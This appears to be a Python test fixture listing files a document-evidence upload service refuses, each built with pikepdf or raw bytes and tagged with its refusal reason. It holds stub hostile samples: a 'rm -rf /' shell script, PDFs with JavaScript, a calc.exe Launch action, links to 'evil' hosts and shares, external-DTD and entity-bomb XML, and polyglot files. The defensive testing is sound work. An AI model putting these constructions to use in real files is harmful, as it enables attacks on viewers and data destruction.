"""Files that nobody may hand in as evidence, each with the reason for which it is refused."""
import gzip
import io
import random
import tarfile
import zipfile

import pikepdf

from tests.documents import digital_ofd, einvoice_xml, zip_of
from tests.reading import hostile as bombs
from tests.resubmission_applicant.test_actions import png

NAME, DICT = pikepdf.Name, pikepdf.Dictionary


def pdf(change=lambda made: None, **saving) -> bytes:
    """A PDF of one page, changed as the test wants it."""
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(out, **saving)
    return out.getvalue()


def opening(**action) -> bytes:
    return pdf(lambda made: setattr(made.Root, "OpenAction", DICT(**action)))


def annotated(**annotation) -> bytes:
    """The annotation stands in the page's own array, where walking from object to object does not meet it."""
    note = DICT(Type=NAME.Annot, Rect=[0, 0, 9, 9], **annotation)
    return pdf(lambda made: setattr(made.pages[0].obj, "Annots", pikepdf.Array([note])))


def chained() -> bytes:
    """A harmless action, and after it another that is not."""
    return opening(S=NAME.GoTo, D=[0, NAME.Fit], Next=[DICT(S=NAME.GoTo, D=[0], Next=DICT(S=NAME.JavaScript, JS="1"))])


def with_form(**form) -> bytes:
    return pdf(lambda made: setattr(made.Root, "AcroForm", DICT(Fields=[], **form)))


def attached(name: str, data: bytes) -> bytes:
    def put(made: pikepdf.Pdf) -> None:
        made.attachments[name] = pikepdf.AttachedFileSpec(made, data, filename=name)

    return pdf(put)


def pinned(data: bytes) -> bytes:
    """A file pinned to the page, not in the list of attachments."""

    def put(made: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(made, data, filename="合同.txt").obj
        note = DICT(Type=NAME.Annot, Subtype=NAME.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
        made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(note)])

    return pdf(put)


def office(*parts: str) -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>"} | dict.fromkeys(parts, b"x"))


def ole(*streams: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(name.encode("utf-16-le") for name in streams)


def ofd_with(name: str, content: bytes) -> bytes:
    held = io.BytesIO(digital_ofd())
    with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return held.getvalue()


def encrypted_ofd() -> bytes:
    """The flag that says so is set on its first member."""
    data = bytearray(digital_ofd())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def damaged_ofd() -> bytes:
    data = bytearray(ofd_with("a", random.Random(1).randbytes(999)))
    at = data.rindex(b"PK\x03\x04") + 200
    data[at] ^= 0xFF
    return bytes(data)


def tar() -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"), io.BytesIO())
    return held.getvalue()


def _js(**more) -> dict:
    return {"S": NAME.JavaScript, "JS": "app.alert(1)"} | more


#: What it is called in a test's name: (how it is made, the code of its refusal).
MADE = {
    "zip": (lambda: zip_of({"a.xml": b"<a/>"}), "archive"),
    "empty zip": (lambda: zip_of({}), "archive"),
    "broken zip": (lambda: zip_of({"a.xml": b"<a/>"})[:20], "archive"),
    "zip of zips": (bombs.nested_zip, "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\x00" + bytes(50), "archive"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), "archive"),
    "gzip": (lambda: gzip.compress(b"x"), "archive"),
    "tar": (tar, "archive"),
    "docx": (lambda: office("word/document.xml"), "office"),
    "docm": (lambda: office("word/document.xml", "word/vbaProject.bin"), "macros"),
    "xlsm called xlsx": (lambda: office("xl/workbook.xml", "xl/vbaProject.bin"), "macros"),
    "xlsx with old macros": (lambda: office("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "macros"),
    "doc": (lambda: ole("WordDocument"), "office"),
    "doc with macros": (lambda: ole("WordDocument", "_VBA_PROJECT"), "macros"),
    "rtf": (lambda: rb"{\rtf1\ansi}", "office"),
    "exe": (lambda: b"MZ\x90\x00" + bytes(100), "program"),
    "elf": (lambda: b"\x7fELF" + bytes(100), "program"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /", "program"),
    "shortcut": (lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), "program"),
    "plain text": (lambda: b"Set x = CreateObject(1)", "type"),
    "html": (lambda: b"<html><script>1</script></html>", "page"),
    "html5": (lambda: b"\xef\xbb\xbf <!DOCTYPE HTML><p>", "page"),
    "html after a remark": (lambda: b"<!-- a --> <!-- b --><HTML>", "page"),
    "html in utf-16": (lambda: "<html><script>1</script></html>".encode("utf-16"), "page"),
    "saved web page": (lambda: b"From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related", "page"),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', "page"),
    "svg deep in xml": (lambda: b'<a><b><s:svg xmlns:s="http://www.w3.org/2000/svg"/></b></a>', "page"),
    "xml with a style sheet": (lambda: b'<?xml-stylesheet href="x.xsl" type="text/xsl"?><a/>', "page"),
    "xml that opens Word": (lambda: b'<?mso-application progid="Word.Document"?><a/>', "page"),
    "billion laughs": (bombs.laughing_xml, "entities"),
    "prying xml": (bombs.prying_xml, "entities"),
    "xml with an outer DTD": (lambda: b'<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>', "entities"),
    "DOCTYPE in utf-16": (lambda: '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'.encode("utf-16"), "entities"),
    "deep xml": (bombs.deep_xml, "type"),
    "locked pdf": (lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="x")), "encrypted"),
    "pdf locked against printing": (lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="")), "encrypted"),
    "pdf that runs when opened": (lambda: opening(**_js()), "javascript"),
    "pdf that runs after a while": (chained, "javascript"),
    "pdf that runs on a page": (lambda: pdf(lambda made: setattr(made.pages[0].obj, "AA", DICT(O=DICT(**_js())))),
                                "javascript"),
    "pdf that runs at a click": (lambda: annotated(Subtype=NAME.Link, A=DICT(**_js())), "javascript"),
    "pdf with named scripts": (lambda: pdf(lambda made: setattr(
        made.Root, "Names", DICT(JavaScript=DICT(Names=["x", DICT(**_js())])))), "javascript"),
    "pdf with its scripts packed": (lambda: pdf(
        lambda made: setattr(made.Root, "OpenAction", made.make_indirect(DICT(**_js()))),
        object_stream_mode=pikepdf.ObjectStreamMode.generate), "javascript"),
    "pdf that starts a program": (lambda: opening(S=NAME.Launch, F="calc.exe"), "launch"),
    "pdf that opens a share": (lambda: opening(S=NAME.GoToR, F="\\\\evil\\share", D=[0]), "launch"),
    "pdf that opens what it holds": (lambda: opening(S=NAME.GoToE, D=[0]), "launch"),
    "pdf that sends": (lambda: annotated(Subtype=NAME.Link, A=DICT(S=NAME.SubmitForm, F="http://evil")), "sends"),
    "pdf with xfa": (lambda: with_form(XFA=b"<xdp/>"), "xfa"),
    "pdf that plays": (lambda: annotated(Subtype=NAME.RichMedia), "plays"),
    "pdf with a program": (lambda: attached("a.txt", b"MZ\x90\x00" + bytes(99)), "runs_inside"),
    "pdf with a script by name": (lambda: attached("合同.pdf.js ", b"var x"), "runs_inside"),
    "pdf with macros": (lambda: attached("a.xlsx", office("xl/vbaProject.bin")), "runs_inside"),
    "pdf with a page": (lambda: attached("a.txt", b"<html>"), "runs_inside"),
    "pdf with a program pinned on": (lambda: pinned(b"\x7fELF" + bytes(99)), "runs_inside"),
    "pdf with an archive": (lambda: attached("a.dat", zip_of({"a": b"x"})), "archive_inside"),
    "pdf in a pdf that runs": (lambda: attached("a.pdf", opening(**_js())), "javascript"),
    "pdf of nothing": (lambda: b"%PDF-1.7 nothing", "unreadable_pdf"),
    "pdf of pages in a ring": (bombs.pdf_of_pages_in_a_ring, "unreadable_pdf"),
    "pdf of many pages": (bombs.pdf_of_many_pages, "too_many_pages"),
    "pdf with a huge picture": (bombs.pdf_with_a_huge_picture, "too_many_pixels"),
    "half a png": (lambda: png()[:40], "unreadable_picture"),
    "huge png": (bombs.huge_png, "too_many_pixels"),
    "picture and zip": (lambda: png() + zip_of({"a.exe": b"MZ"}), "two_in_one"),
    "picture and pdf": (lambda: b"\xff\xd8\xff\xfe\x00\x40%PDF-1.7" + png(), "two_in_one"),
    "pdf and zip": (lambda: pdf() + zip_of({"a.exe": b"MZ"}), "two_in_one"),
    "xml and zip": (lambda: einvoice_xml() + zip_of({"a.exe": b"MZ"}), "two_in_one"),
    "ofd bomb": (bombs.bomb_ofd, "too_large_unpacked"),
    "locked ofd": (encrypted_ofd, "encrypted_ofd"),
    "ofd with a program": (lambda: ofd_with("Doc_0/Attachs/a.exe", b"MZ\x90\x00" + bytes(99)), "runs_inside"),
    "ofd with a page": (lambda: ofd_with("Doc_0/Attachs/a.xml", b"<!doctype html><script>1</script>"), "runs_inside"),
    "ofd with an archive": (lambda: ofd_with("Doc_0/Attachs/a.zip", zip_of({"a": b"x"})), "archive_inside"),
    "ofd with entities": (lambda: ofd_with("Doc_0/x.xml", bombs.laughing_xml()), "entities"),
    "damaged ofd": (damaged_ofd, "unreadable_ofd"),
    "empty": (lambda: b"", "empty"),
}
